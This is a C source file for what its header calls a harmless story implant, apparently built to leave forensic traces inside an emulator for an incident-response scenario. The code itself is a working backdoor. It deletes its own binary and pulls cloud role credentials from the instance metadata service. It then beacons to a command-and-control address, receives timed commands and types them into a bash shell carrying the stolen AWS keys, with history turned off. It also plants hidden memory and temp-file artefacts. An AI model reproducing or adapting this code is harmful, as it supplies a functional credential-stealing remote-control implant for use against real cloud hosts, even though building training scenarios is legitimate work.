/*
 * sysupd.c - the story's implant, harmless: removes its own file, reads the
 * role credentials, opens one connection to an address that exists only
 * inside the emulator, and types the lines it is sent into a shell.
 */
#define _GNU_SOURCE
#include "guest.h"
#include <poll.h>
#include <sys/mman.h>

#define ROLE_ARN "arn:aws:iam::111122223333:role/app-server-role"
#define SESSION_ARN                                                            \
    "arn:aws:sts::111122223333:assumed-role/app-server-role/" INSTANCE

/* "name" : "value" of the credentials document, copied to the heap. */
static char *json_text(const char *doc, const char *name)
{
    char key[64];

    snprintf(key, sizeof key, "\"%s\" : \"", name);
    const char *p = strstr(doc, key);
    if (!p)
        return "";
    p += strlen(key);
    size_t n = strcspn(p, "\"");
    char *v = guest_heap(n + 1);
    memcpy(v, p, n);
    v[n] = 0;
    return v;
}

static char *pair(const char *name, const char *value)
{
    size_t n = strlen(name) + strlen(value) + 2;
    char *s = guest_heap(n);

    snprintf(s, n, "%s=%s", name, value);
    return s;
}

static int start_shell(const char *creds)
{
    int in[2], out[2];
    char *env[] = { "PATH=/usr/local/bin:/usr/bin:/bin",
                    "HOME=/root",
                    "HISTFILE=/dev/null",
                    "HISTTIMEFORMAT=%F %T ",
                    "AWS_REGION=ap-northeast-1",
                    "AWS_ROLE_ARN=" ROLE_ARN,
                    pair("AWS_ACCESS_KEY_ID", json_text(creds, "AccessKeyId")),
                    pair("AWS_SECRET_ACCESS_KEY",
                         json_text(creds, "SecretAccessKey")),
                    pair("AWS_SESSION_TOKEN", json_text(creds, "Token")),
                    NULL };
    char *argv[] = { "bash", "--norc", "-i", NULL };

    if (pipe2(in, O_CLOEXEC) < 0 || pipe2(out, O_CLOEXEC) < 0)
        _exit(1);
    if (fork() == 0) {
        dup2(in[0], 0);
        dup2(out[1], 1);
        dup2(out[1], 2);
        execve("/bin/bash", argv, env);
        _exit(127);
    }
    close(in[0]);
    close(out[1]);
    fcntl(out[0], F_SETFL, O_NONBLOCK);
    return dup3(out[0], 9, O_CLOEXEC) < 0 ? -1 : in[1];
}

static void hidden_places(void)
{
    /* memory that is writable and executable, filled with plain returns */
    void *rwx = mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC,
                     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memset(rwx, 0xc3, 4096);
    memcpy(rwx, "KANSHIKI SAMPLE RWX PAGE", 24);

    int fd = memfd_create("cfg", MFD_CLOEXEC);
    dprintf(fd,
            "{\"c2\":\"" C2_IP ":443\",\"host\":\"app-01\",\"id\":\"" INSTANCE
            "\",\"role\":\"" ROLE_ARN "\",\"session\":\"" SESSION_ARN
            "\",\"volumes\":[\"vol-0aa11bb22cc33dd44\","
            "\"vol-0bb22cc33dd44ee55\"]}\n");

    fd = open("/tmp/.c", O_RDWR | O_CREAT | O_CLOEXEC, 0600);
    dprintf(fd, "customers/2026/customers-01.csv\n"
                "customers/2026/customers-02.csv\n");
    unlink("/tmp/.c");
    guest_put_file("/run/.sysupd.lock", INSTANCE "\n", 0600);
}

/* Tasks: lines "epoch<TAB>command"; each is typed at its time. */
static void play_tasks(char *tasks, int shell)
{
    char out[1024];

    for (char *p = tasks; *p;) {
        char *line = p;
        p += strcspn(p, "\n");
        if (*p)
            *p++ = 0;
        char *cmd = strchr(line, '\t');
        if (!cmd)
            continue;
        long t = strtol(line, NULL, 10);
        while (time(NULL) < t)
            sleep((unsigned)(t - time(NULL)));
        dprintf(shell, "%s\n", cmd + 1);
        sleep(1);
        while (read(9, out, sizeof out) > 0)
            ;
    }
}

int main(int argc, char **argv)
{
    char *tasks = guest_heap(4096);
    ssize_t n = 0, r;

    (void)argc;
    unlink(argv[0]);
    char *creds = guest_http_get(IMDS_IP, IMDS_ROLE);
    if (!creds)
        return 1;
    int c2 = guest_connect(C2_IP, 443);
    dprintf(c2, "HELLO app-01 " INSTANCE " " SESSION_ARN "\n");
    do {
        r = read(c2, tasks + n, 4095 - (size_t)n);
        n += r > 0 ? r : 0;
    } while (r > 0 && !strstr(tasks, "END\n"));
    tasks[n] = 0;
    hidden_places();
    play_tasks(tasks, start_shell(creds));
    for (;;) {
        char b[256];
        if (read(c2, b, sizeof b) <= 0)
            pause();
    }
}
